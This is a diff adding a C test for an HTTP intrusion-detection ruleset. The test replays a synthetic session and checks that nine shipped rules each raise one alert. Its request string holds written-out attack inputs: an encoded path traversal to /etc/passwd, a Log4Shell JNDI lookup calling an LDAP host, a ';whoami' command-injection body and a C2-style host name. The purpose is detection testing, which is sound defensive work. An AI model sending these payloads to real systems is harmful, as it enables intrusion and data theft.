@@ -317,3 +317,47 @@ Test(http, rule_without_buffer_is_an_init_error)
 				    "add `buffer:`") != NULL,
 		  "%s", t.res.err);
 }
+
+/* rules/http.yaml as shipped: each rule fires once on the session made
+ * for it. */
+Test(http, shipped_rules_fire)
+{
+	static const char body[] = "ip=1;whoami";
+	static const char leak[] = "root:x:0:0:root:/root:/bin/bash\n";
+	char path[4096], text[65536], req[1024], resp[1024];
+	struct pg_tcp s;
+	size_t n;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/rules/http.yaml", SOURCE_DIR);
+	f = fopen(path, "r");
+	cr_assert_not_null(f);
+	n = fread(text, 1, sizeof(text) - 1, f);
+	fclose(f);
+	text[n] = '\0';
+	itest_rules(&t, text);
+	itest_capture(&t, 1);
+	pg_tcp_init(&s, &t.gen, "198.18.0.15", 41006, "198.18.1.80", 8000);
+	pg_tcp_handshake(&s);
+	snprintf(req, sizeof(req),
+		 "GET /cgi-bin/%%2e%%2e/%%2e%%2e/etc/passwd HTTP/1.1\r\nHost: c2.duckdns.org\r\n"
+		 "User-Agent: sqlmap/1.7\r\nX-Api-Version: ${jndi:ldap://198.18.5.5/a}\r\n\r\n"
+		 "POST /ping HTTP/1.1\r\nHost: 198.18.1.80\r\nContent-Length: %zu\r\n\r\n%s"
+		 "TRACE / HTTP/1.1\r\nHost: x\r\n\r\n",
+		 strlen(body), body);
+	send_str(&s, PG_TO_SERVER, req);
+	snprintf(resp, sizeof(resp),
+		 "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n%s"
+		 "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n"
+		 "HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n",
+		 strlen(leak), leak);
+	send_str(&s, PG_TO_CLIENT, resp);
+	pg_tcp_close(&s);
+	run_ok();
+	for (unsigned sid = 3100001; sid <= 3100009; sid++)
+		cr_expect_eq(itest_alerts(&t, sid), 1, "rule %u", sid);
+	cr_expect_eq(eve_count(&t.eve, "event_type=alert"), 9);
+	cr_expect_str_eq(jr_str(alert(3100009), "http.url"), "/ping");
+	cr_expect_eq(jr_int(alert(3100009), "http.status", 0), 500);
+	cr_expect_str_eq(jr_str(alert(3100005), "http.hostname"), "c2.duckdns.org");
+}
